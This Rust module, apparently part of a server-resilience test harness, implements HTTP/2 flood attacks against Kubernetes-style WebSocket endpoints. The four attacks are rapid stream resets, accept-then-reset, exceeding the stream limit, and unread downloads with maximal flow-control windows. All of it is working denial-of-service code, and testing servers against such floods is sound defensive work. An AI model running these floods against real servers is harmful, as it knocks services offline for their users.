//! Floods of streams on connections of HTTP/2.

use std::thread;

use super::{
    super::{
        attacker::{Attacker, Carrier, connect},
        http2::{self, Http2, frame},
        pipe::Pipe,
        run::Run,
    },
    target::{READS, WRITES},
};

/// The streams that a connection may have at once.
pub(super) const STREAMS: u32 = 100;

fn connection(run: &Run<'_>) -> Http2 {
    Http2::new(connect(&run.server.addresses[Carrier::Http2.address()]))
}

/// Returns the frames of a handshake on a stream.
fn handshake(stream: u32) -> Vec<u8> {
    handshake_at(stream, READS)
}

fn handshake_at(stream: u32, path: &str) -> Vec<u8> {
    let fields = [
        ("sec-websocket-version", "13"),
        ("sec-websocket-protocol", "v5.channel.k8s.io"),
    ];
    http2::headers(stream, &http2::handshake(path, &fields))
}

fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8_u32.to_be_bytes())
}

/// Opens and resets streams at once, until the server has had enough.
pub(super) fn rapid_reset(run: &mut Run<'_>) -> Vec<Attacker> {
    let mut sent = 0;
    let mut connections: Vec<_> = (0..run.sessions).map(|_| connection(run)).collect();
    for first in (0..run.frames).step_by(STREAMS as usize) {
        for connection in &mut connections {
            let streams = (first..first + STREAMS).map(|n| 2 * n + 1);
            let frames: Vec<u8> = streams
                .flat_map(|stream| [handshake(stream), reset(stream)].concat())
                .collect();
            if !connection.is_over {
                sent += frames.len() as u64;
                connection.put(&frames);
                connection.until(|one| one.is_over || one.is_clear());
            }
        }
        run.gauge.look();
    }
    // A single one is the warm-up, with few frames.
    let all = connections.len();
    for connection in &mut connections {
        connection.until(|one| one.is_over || all == 1);
    }
    into_attackers(connections, sent)
}

/// Opens sessions, and resets each when it is accepted.
pub(super) fn accepted_and_reset(run: &mut Run<'_>) -> Vec<Attacker> {
    let mut sent = 0;
    let mut connections: Vec<_> = (0..run.sessions).map(|_| connection(run)).collect();
    for first in (0..run.frames).step_by(STREAMS as usize) {
        for connection in &mut connections {
            let streams = (first..first + STREAMS).map(|n| 2 * n + 1);
            let frames: Vec<u8> = streams.clone().flat_map(handshake).collect();
            sent += frames.len() as u64;
            connection.answers.clear();
            connection.put(&frames);
            connection.until(|one| one.is_over || one.answers.len() == STREAMS as usize);
            assert!(!connection.is_over);
            run.gauge.look();
            connection.put(&streams.flat_map(reset).collect::<Vec<u8>>());
        }
    }
    into_attackers(connections, sent)
}

/// Opens more sessions on each connection than it may have.
pub(super) fn connects(run: &mut Run<'_>) -> Vec<Attacker> {
    let mut sent = 0;
    let mut connections: Vec<_> = (0..run.sessions).map(|_| connection(run)).collect();
    for connection in &mut connections {
        for n in 0..run.frames {
            let frames = handshake(2 * n + 1);
            sent += frames.len() as u64;
            connection.put(&frames);
            connection.until(|one| one.answers.len() as u32 + one.resets > n || one.is_over);
            run.gauge.look();
            thread::yield_now();
        }
        let accepted = connection.answers.len() as u32;
        assert_eq!(accepted, run.frames.min(STREAMS));
    }
    into_attackers(connections, sent)
}

/// Opens sessions that write without end, on connections with windows that are never full, and reads
/// nothing.
pub(super) fn unread_downloads(run: &mut Run<'_>) -> Vec<Attacker> {
    let streams = run.frames.min(STREAMS);
    let open = [
        // SETTINGS_INITIAL_WINDOW_SIZE, and the window of the connection.
        frame(4, 0, 0, b"\0\x04\x7f\xff\xff\xff"),
        frame(8, 0, 0, b"\x7f\xff\0\0"),
    ];
    let handshakes = (0..streams).map(|n| handshake_at(2 * n + 1, WRITES));
    let frames: Vec<u8> = open.into_iter().chain(handshakes).flatten().collect();
    let mut connections: Vec<_> = (0..run.sessions).map(|_| connection(run)).collect();
    for connection in &mut connections {
        connection.put(&frames);
        while !connection.flush() {
            run.gauge.look();
        }
    }
    into_attackers(connections, u64::from(run.sessions) * frames.len() as u64)
}

/// Leaves connections open.
fn into_attackers(connections: Vec<Http2>, sent: u64) -> Vec<Attacker> {
    let mut attackers: Vec<_> = connections
        .into_iter()
        .map(|connection| Attacker::over(Pipe::Http2(Box::new(connection)), Carrier::Http2))
        .collect();
    attackers[0].sent = sent;
    attackers
}
